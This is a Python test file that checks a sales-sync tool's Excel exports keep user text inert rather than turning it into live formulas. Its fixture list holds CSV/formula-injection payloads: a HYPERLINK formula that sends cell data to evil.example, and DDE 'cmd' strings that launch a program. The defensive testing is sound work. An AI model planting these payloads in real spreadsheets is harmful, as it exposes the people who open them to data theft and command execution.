"""Exports that cannot run (issue: a customer named ``=HYPERLINK(…)`` became a live formula in report
exports, the reconciliation export's 对账结果 sheet and ``audit export``): every workbook salesync
writes keeps user text as text — no formula cell — while numbers stay numbers."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import update

from schema.models import Building, Customer, Project, Subscription
from sync.app import Salesync
from sync.cli import main
from sync.domain.worklog import LogWriter
from sync.kinds.reports import FURTHER, REPORTS
from sync.xlsx.excel_text import is_risky, safe_text
from tests.deals import PROJECT, sold_project
from tests.manual_reports import manual_report_file, synced_visits
from tests.workbooks import customer_rows, fill_template

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def cells(path: Path, sheet: str | None = None) -> list[Any]:
    book = load_workbook(path)
    sheets = [book[sheet]] if sheet else book.worksheets
    return [cell for ws in sheets for row in ws.iter_rows() for cell in row]


def assert_inert(path: Path, *expected: str, sheet: str | None = None) -> None:
    """No formula cell anywhere (or on ``sheet``); each of ``expected`` is there as text."""
    found = cells(path, sheet)
    formulas = [(c.parent.title, c.coordinate, c.value) for c in found if c.data_type == "f"]
    assert formulas == [], path
    texts = [c.value for c in found if isinstance(c.value, str)]
    for text in expected:
        assert any(text in t for t in texts), (text, path)
    risky = [c for c in found if is_risky(c.value)]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def as_text(path: Path) -> Path:
    """The file as a controller types it: the text cells are text (Excel's own ``'=…`` entry)."""
    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    book.save(path)
    return path


def run(app: Salesync, *args: str) -> Any:
    result = CliRunner().invoke(
        main, ["--db", app.config.database_url, "--data-dir", str(app.config.data_dir), *args]
    )
    assert result.exit_code in (0, 1), result.output
    return result


def test_safe_text_keeps_numbers_and_plain_text() -> None:
    assert safe_text(-12.5) == -12.5 and safe_text(3) == 3 and safe_text(None) is None
    assert safe_text("张丽") == "张丽" and safe_text("a\x01b") == "ab"
    for text in HOSTILE:
        cell = safe_text(text)
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


@pytest.fixture
def hostile_project(app: Salesync, people: dict[str, str], tmp_path: Path) -> Salesync:
    """The sold test project whose customers, buildings and project carry text a spreadsheet would run."""
    sold_project(app, tmp_path)
    with app.transaction() as session:
        session.execute(update(Customer).values(name=HOSTILE[0]))
        session.execute(update(Subscription).values(customer_name=HOSTILE[1]))
        session.execute(update(Building).values(name=HOSTILE[4]))
        session.execute(update(Project).values(name=HOSTILE[2]))
        LogWriter(session, None).append(
            "customer", HOSTILE[3], "change", field="name", old="张丽", new=HOSTILE[0]
        )
    return app


@pytest.mark.parametrize("report", sorted(REPORTS) + sorted(FURTHER) + ["board"])
def test_report_exports(hostile_project: Salesync, tmp_path: Path, report: str) -> None:
    out = tmp_path / f"{report}.xlsx"
    run(
        hostile_project, "report", report, "--project", PROJECT, "--from", "2026-11-01", "--to", "2026-11-30",
        "--out", str(out),
    )  # fmt: skip
    expected = {
        "sales_detail": [HOSTILE[1]],
        "board": [HOSTILE[1], HOSTILE[2]],
    }.get(report, [])
    assert_inert(out, *expected)


def test_audit_export(hostile_project: Salesync, tmp_path: Path) -> None:
    out = tmp_path / "audit.xlsx"
    run(hostile_project, "audit", "export", "--out", str(out))
    assert_inert(out, HOSTILE[0], HOSTILE[3])


def test_the_reconciliation_export(app: Salesync, people: dict[str, str], tmp_path: Path) -> None:
    visits = synced_visits(app, people, tmp_path, 2)
    rows = [dict(v) for v in visits]
    rows[0]["事件内容"] = HOSTILE[1]
    rows[1]["客户姓名"] = HOSTILE[0]
    manual = as_text(manual_report_file(rows, tmp_path / "hand" / "来电来访明细表.xlsx"))
    out = tmp_path / "marked.xlsx"
    run(app, "reconcile", str(manual), "--as", "manager", "--out", str(out))
    # the controller's own sheets are theirs, as they saved them; the 对账结果 sheet is salesync's
    assert_inert(out, HOSTILE[0], HOSTILE[1], sheet="对账结果")


def test_the_feedback_workbook(app: Salesync, people: dict[str, str], tmp_path: Path) -> None:
    rows = customer_rows(2)
    rows["客户"][0]["客户姓名"] = HOSTILE[0]
    rows["客户"][1]["手机号码"] = HOSTILE[5]  # a bad phone: the finding quotes the value
    path = fill_template("customers", rows, tmp_path / "rep_a" / "客户登记.xlsx")
    outcome = app.ingest(path, "rep_a")
    assert any(f.code == "phone-invalid" for f in outcome.findings)
    assert_inert(path.with_name("客户登记.反馈.xlsx"), HOSTILE[5].strip())
